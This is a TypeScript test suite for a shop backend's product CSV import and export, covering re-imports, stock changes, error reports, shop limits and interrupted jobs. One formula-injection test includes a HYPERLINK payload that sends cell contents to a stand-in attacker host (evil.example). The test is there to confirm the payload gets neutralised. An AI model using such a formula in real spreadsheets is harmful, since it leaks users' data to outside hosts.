import { changeDeleted, limitShop } from '@hojip/catalog'
import { aCategoryPath } from '@hojip/catalog/testing'
import { anOrdersMall, type TestMall } from '@hojip/orders/testing'
import { inTransaction } from '@hojip/platform/db'
import type { Viewer } from '@hojip/platform/http'
import { aShopWith, productsToolsOf } from '../testing.ts'
import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { ProductsTools } from '../actions/tools.ts'
import { productsJobs, productsRoutes } from '../index.ts'
import { exportedText, runOneJob, sentFile } from '../testing/files.ts'

let mall: TestMall
let tools: ProductsTools
beforeAll(async () => {
  mall = await anOrdersMall((plain) => {
    tools = productsToolsOf(plain)
    productsJobs(tools)
    return productsRoutes(tools)
  })
  await aCategoryPath(mall.tools.db)
})
afterAll(() => mall.stop())

let shop: Awaited<ReturnType<typeof aShopWith>>
let mei: Viewer
beforeEach(async () => {
  shop = await aShopWith(mall.tools.db, [
    { prices: [1980, 2980, 3980], stock: 10 },
    { name: '大葱', prices: [500], stock: 7 },
  ])
  mei = shop.mei
})

async function seen(pkId: string, viewer = mei) {
  return (await mall.call(viewer, 'POST /bizConsole/queryProductImport', { pkId })).data.import
}

/** The file after it has been looked at. */
async function checked(text: string) {
  const pkId = await sentFile(tools, mei, text)
  await runOneJob(tools, pkId)
  return seen(pkId)
}

async function begun(text: string): Promise<string> {
  const { pkId } = await checked(text)
  await mall.call(mei, 'POST /bizConsole/startProductImport', { pkId })
  return pkId
}

async function imported(text: string) {
  const pkId = await begun(text)
  await runOneJob(tools, pkId)
  return seen(pkId)
}

function exported() {
  return exportedText(mall.tools, mei)
}

async function formOf(goodsId: string) {
  return (await mall.call(mei, 'POST /bizConsole/queryProductForm', { goodsId })).data
}

async function count(goodsId: string): Promise<number> {
  const versions = await mall.call(mei, 'POST /bizConsole/queryProductVersions', { goodsId })
  return versions.data.total
}

/** A product as Shopify exports it, with a row for each size. */
function sized(handle: string, prices: readonly string[]): string {
  const rows = prices.map(
    (price, at) =>
      `${handle},${at === 0 ? '海带' : ''},Cabbage kimchi,尺寸,${at + 1}kg,${price},4,https://pics.example/1.jpg\n`,
  )
  return rows.join('')
}
const head =
  'Handle,Title,Product Category,Option1 Name,Option1 Value,Variant Price,Variant Inventory Qty,Image Src\n'

describe('what is exported', () => {
  test('changes nothing when it is imported, and only what somebody changed is changed', async () => {
    const text = await exported()
    expect(await checked(text)).toMatchObject({
      state: 'checked',
      unchanged: 2,
      added: 0,
      changed: 0,
      refused: 0,
    })

    const before = await formOf(shop.products[0]!.goodsId)
    const answer = await imported(
      text.replace('Napa cabbage kimchi', 'Pickled cabbage').replace('29.80', '31.00'),
    )
    expect(answer).toMatchObject({ state: 'done', unchanged: 1, changed: 1, progress: 1 })
    const after = await formOf(shop.products[0]!.goodsId)
    const { form } = before
    expect(after.form).toEqual({
      ...form,
      name: { ...form.name, 'en-US': 'Pickled cabbage' },
      skus: form.skus.map((sku: { price: string }) =>
        sku.price === '29.80' ? { ...sku, price: '31.00' } : sku,
      ),
    })
  })

  test('leads to versions that show who has imported what, with a way back', async () => {
    const { goodsId } = shop.products[1]!
    await imported((await exported()).replace('大葱', '小葱'))
    const { data } = await mall.call(mei, 'POST /bizConsole/queryProductVersions', { goodsId })
    expect(data.list.map(({ userName, changed }: Record<string, unknown>) => [userName, changed])).toEqual([
      ['Mei', ['name.zh-CN']],
      [null, []],
    ])
  })

  test('leaves what was sold since as it is, and adds what came in', async () => {
    const text = await exported()
    const [first, second] = [shop.products[0]!, shop.products[1]!]
    await sql`update stock set on_hand = on_hand - 3, received = received - 3 where sku_id = any(${[first.skuIds[0]!, second.skuIds[0]!]}::uuid[])`.execute(
      mall.tools.db,
    )
    // Ten more units of the first size, and another name.
    const line = text.split('\r\n').find((one) => one.includes('19.80'))!
    const more = line.replace(',hojip,10,10,', ',hojip,20,10,')
    expect(more).not.toBe(line)
    await imported(text.replace(line, more).replace('大葱', '小葱'))
    expect((await formOf(first.goodsId)).form.skus.map(({ stock }: { stock: string }) => stock)).toEqual([
      '17',
      '10',
      '10',
    ])
    expect((await formOf(second.goodsId)).form).toMatchObject({
      name: { 'zh-CN': '小葱' },
      skus: [{ stock: '4' }],
    })
    const { rows } = await sql`
      select kind, delta, user_id = ${mei.userId} as mei from stock_movement
      where sku_id = ${first.skuIds[0]!} order by id desc limit 1`.execute(mall.tools.db)
    expect(rows).toEqual([{ kind: 'import', delta: 10, mei: true }])
  })

  test('brings a deleted product back, and leaves deleted ones out', async () => {
    const text = await exported()
    const { goodsId } = shop.products[1]!
    await inTransaction(mall.tools.db, (tx) => changeDeleted(tx, shop.shopId, [goodsId], true))
    expect(await exported()).not.toContain('大葱')
    expect(await imported(text)).toMatchObject({ unchanged: 1, changed: 1 })
    expect(await formOf(goodsId)).toMatchObject({ isOnSale: true })
  })

  test('takes a size off sale that its file no longer has', async () => {
    const lines = (await exported()).split('\r\n')
    await imported(lines.filter((line) => !line.includes('39.80')).join('\r\n'))
    const { form } = await formOf(shop.products[0]!.goodsId)
    expect(form.options[0].values.map(({ isHidden }: { isHidden: boolean }) => isHidden)).toEqual([
      false,
      false,
      true,
    ])
    expect(form.skus).toHaveLength(2)
  })
})

describe('another shop system’s file', () => {
  test('adds products, keeps translations of known ones, and changes nothing the second time', async () => {
    const text = `${head}${sized('kelp', ['9.90', '12.90'])}`
    expect(await imported(text)).toMatchObject({ added: 1, elsewhere: 0 })
    const found = await mall.call(mei, 'POST /bizConsole/queryProducts', { words: '海带' })
    const goodsId = found.data.list[0].pkId
    const { form, version, isOnSale } = await formOf(goodsId)
    expect(form).toMatchObject({
      skus: [
        { price: '9.90', stock: '4' },
        { price: '12.90', stock: '4' },
      ],
    })
    const translated = { ...form, name: { ...form.name, 'ko-KR': '미역' } }
    await mall.call(mei, 'POST /bizConsole/saveProductForm', {
      goodsId,
      newKey: goodsId,
      version,
      isOnSale,
      form: translated,
    })
    expect(await imported(text)).toMatchObject({ unchanged: 1, changed: 0 })
    expect(await imported(text.replace('海带', '干海带'))).toMatchObject({ changed: 1 })
    expect((await formOf(goodsId)).form.name).toMatchObject({ 'zh-CN': '干海带', 'ko-KR': '미역' })
  })

  test('may have the newer names of columns', async () => {
    const text =
      'URL handle,Title,Price,Inventory quantity,Product category,Product image URL\n' +
      'leek,葱,1.50,3,Cabbage kimchi,https://pics.example/leek.jpg\n'
    expect(await imported(text)).toMatchObject({ added: 1, refused: 0 })
  })

  test('of a shop is not seen by another one', async () => {
    const other = await aShopWith(mall.tools.db, [])
    const { pkId } = await checked(`${head}${sized('kelp', ['9.90'])}`)
    const calls = ['queryProductImport', 'startProductImport', 'cancelProductImport', 'exportRefusedProducts']
    for (const name of calls)
      expect((await mall.call(other.mei, `POST /bizConsole/${name}`, { pkId })).data.reason, name).toBe(
        'productFiles/importGone',
      )
  })
})

describe('what is wrong', () => {
  const bad = `${head}${sized('kelp', ['9.90', 'cheap'])}${sized('leek', ['1.50'])}`

  test('is reported by line and column, in the language of the reader, and the rest is imported', async () => {
    const answer = await checked(bad)
    expect(answer).toMatchObject({ state: 'checked', added: 1, refused: 1 })
    expect(answer.refusals).toEqual([
      {
        handle: 'kelp',
        faults: [{ line: 3, column: 'Variant Price', problem: '“cheap”不是金额，应类似 39.90' }],
      },
    ])
    expect(await imported(bad)).toMatchObject({ state: 'done', added: 1, refused: 1 })
  })

  test('may be a rule of returns that the category does not allow', async () => {
    const ruled = (rule: string) =>
      `Handle,Title,Product Category,Status,Return Rule,Variant Price\nkelp,海带,Cabbage kimchi,draft,${rule},9.90\n`
    const answer = await checked(ruled('digital'))
    expect(answer).toMatchObject({ state: 'checked', added: 0, refused: 1 })
    const problem = expect.stringContaining('由分类决定')
    expect(answer.refusals).toMatchObject([{ faults: [{ line: 2, column: 'Return Rule', problem }] }])
    expect(await imported(ruled('madeToOrder'))).toMatchObject({ state: 'done', added: 1, refused: 0 })
    // What the product has had is no choice any more.
    await sql`update goods set return_rule = 'digital' where handle = 'kelp' and shop_id = ${shop.shopId}`.execute(
      mall.tools.db,
    )
    expect(await imported(ruled('digital').replace('9.90', '8.90'))).toMatchObject({ changed: 1, refused: 0 })
  })

  test('can be downloaded, corrected and sent again', async () => {
    const { pkId } = await imported(bad)
    const { raw: text } = await mall.call(mei, 'POST /bizConsole/exportRefusedProducts', { pkId })
    expect(text.split('\r\n')[0]).toContain('Image Src,问题')
    expect(text).not.toContain('leek')
    expect(await imported(text.replace('2kg,cheap', '2kg,12.90'))).toMatchObject({ added: 1, refused: 0 })
  })

  test('is downloaded without formulas, and means the same when it is sent again', async () => {
    const names = 'Handle,Title,Product Category,Vendor,Variant Price,Image Src'
    const row = `=kelp,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",Cabbage kimchi,@SUM(1),cheap,https://pics.example/1.jpg`
    const refused = async (text: string) => {
      const { pkId } = await checked(text)
      return (await mall.call(mei, 'POST /bizConsole/exportRefusedProducts', { pkId })).raw
    }
    const text = await refused(`${names}\n${row}\n`)
    expect(text.split('\r\n')[1]).toMatch(/^'=kelp,"'=HYPERLINK.*,'@SUM\(1\),cheap,/)
    const again = await refused(text)
    expect(again.split('\r\n')[1]).toMatch(/^'=kelp,"'=HYPERLINK.*,'@SUM\(1\),cheap,/)
    expect(await imported(text.replace('cheap', '9.90'))).toMatchObject({ state: 'done', added: 1 })
    expect(await exported()).toContain(`\r\n'=kelp,"'=HYPERLINK(`)
  })

  test('is one product, when a picture belongs to another shop', async () => {
    const text = `Handle,Title,Product Category,Variant Price,Image Src\nkelp,海带,kimchi,9.90,/pictures/somebodys-800.webp\n`
    expect(await imported(text)).toMatchObject({ added: 0, refused: 1 })
  })

  test('is each new product of a full shop, while those that it has are changed', async () => {
    const own = { before: null, after: 3 }
    await inTransaction(mall.tools.db, (tx) => limitShop(tx, shop.shopId, own))
    const text = `${head}${sized('kelp', ['9.90'])}${sized('leek', ['1.50'])}`
    const answer = await imported(text)
    expect(answer).toMatchObject({ added: 1, refused: 1 })
    expect(answer.refusals).toEqual([
      { handle: 'leek', faults: [{ line: 3, column: '', problem: '店里最多 3 件商品，这件没有导入' }] },
    ])
    const changed = (await exported()).replace('大葱', '小葱')
    expect(await imported(changed)).toMatchObject({ changed: 1, refused: 0 })
  })

  test.each([
    ['time', { mostMs: 0, mostMegabytes: 256 }, '花的时间太长'],
    ['memory', { mostMs: 600_000, mostMegabytes: 4 }, '占用的内存太多'],
  ])(
    'is the whole file, when it takes too much %s, and the mall goes on',
    async (_name, readingLimits, why) => {
      const pkId = await sentFile(tools, mei, `${head}${sized('kelp', ['9.90'])}`)
      await runOneJob({ ...tools, readingLimits }, pkId)
      expect(await seen(pkId)).toMatchObject({ state: 'unreadable', reasons: [expect.stringContaining(why)] })
      expect(await checked(`${head}${sized('kelp', ['9.90'])}`)).toMatchObject({ state: 'checked', added: 1 })
    },
  )

  test('is the whole file, when it is no table', async () => {
    const answer = await checked('%PDF-1.4 nothing to see here')
    expect(answer).toMatchObject({ state: 'unreadable', reasons: ['这是 PDF，不是商品表格'] })
    const { data } = await mall.call(mei, 'POST /bizConsole/startProductImport', { pkId: answer.pkId })
    expect(data).toEqual({ reason: 'productFiles/notChecked', current: 'unreadable' })
  })
})

describe('an import', () => {
  const many = `${head}${Array.from({ length: 40 }, (_, at) => sized(`many-${at}`, ['9.90'])).join('')}`

  function ofMany() {
    return sql<{ n: number; versions: number }>`
      select count(*)::int as n, (select count(*)::int from product_version v join goods o on o.id = v.goods_id
        where o.shop_id = ${shop.shopId} and o.handle like 'many-%') as versions
      from goods where shop_id = ${shop.shopId} and handle like 'many-%'`.execute(mall.tools.db)
  }

  test('that is killed in the middle goes on where it was, and does everything once', async () => {
    const pkId = await begun(many)
    let looks = 0
    const clock = {
      ...tools.clock,
      nowMs: () => {
        if ((looks += 1) === 18) throw new Error('killed')
        return tools.clock.nowMs()
      },
    }
    await expect(runOneJob({ ...tools, clock, productsAtOnce: 1 }, pkId)).rejects.toThrow('killed')
    expect(await seen(pkId)).toMatchObject({
      state: 'running',
      products: 17,
      total: 40,
      added: 17,
      progress: 17 / 40,
    })
    await runOneJob(tools, pkId)
    expect(await seen(pkId)).toMatchObject({ state: 'done', products: 40, added: 40, unchanged: 0 })
    expect((await ofMany()).rows).toEqual([{ n: 40, versions: 40 }])
  })

  test('of two processes at once does everything once', async () => {
    const pkId = await begun(many)
    await Promise.all([runOneJob(tools, pkId), runOneJob(tools, pkId)])
    await runOneJob(tools, pkId)
    expect(await seen(pkId)).toMatchObject({ state: 'done', products: 40, added: 40, refused: 0 })
    expect((await ofMany()).rows).toEqual([{ n: 40, versions: 40 }])
  })

  test('ends where it is when somebody stops it', async () => {
    const pkId = await begun(many)
    let looks = 0
    const clock = {
      ...tools.clock,
      nowMs: () => {
        if ((looks += 1) === 5) void mall.call(mei, 'POST /bizConsole/cancelProductImport', { pkId })
        return tools.clock.nowMs()
      },
    }
    await runOneJob({ ...tools, clock, productsAtOnce: 3 }, pkId)
    const answer = await seen(pkId)
    expect(answer.state).toBe('cancelled')
    expect((await ofMany()).rows[0]!.n).toBe(answer.added)
    expect(answer.added).toBeLessThan(40)
  })

  test('waits for nobody: of two files at once one is taken, and a waiting one gives way', async () => {
    const answers = await Promise.allSettled([1, 2].map(() => sentFile(tools, mei, many)))
    expect(answers.map(({ status }) => status).toSorted()).toEqual(['fulfilled', 'rejected'])
    const taken = answers.find((one) => one.status === 'fulfilled')!.value
    await runOneJob(tools, taken)
    const next = await checked(many)
    expect(next).toMatchObject({ state: 'checked', added: 40 })
    expect(await seen(taken)).toMatchObject({ state: 'cancelled' })
  })

  test('that is started twice runs once', async () => {
    const { pkId } = await checked(many)
    const start = () => mall.call(mei, 'POST /bizConsole/startProductImport', { pkId })
    await Promise.all([start(), start()])
    await runOneJob(tools, pkId)
    expect((await ofMany()).rows).toEqual([{ n: 40, versions: 40 }])
    expect((await start()).data).toEqual({ pkId })
    expect(await count(shop.products[0]!.goodsId)).toBe(0)
  })
})
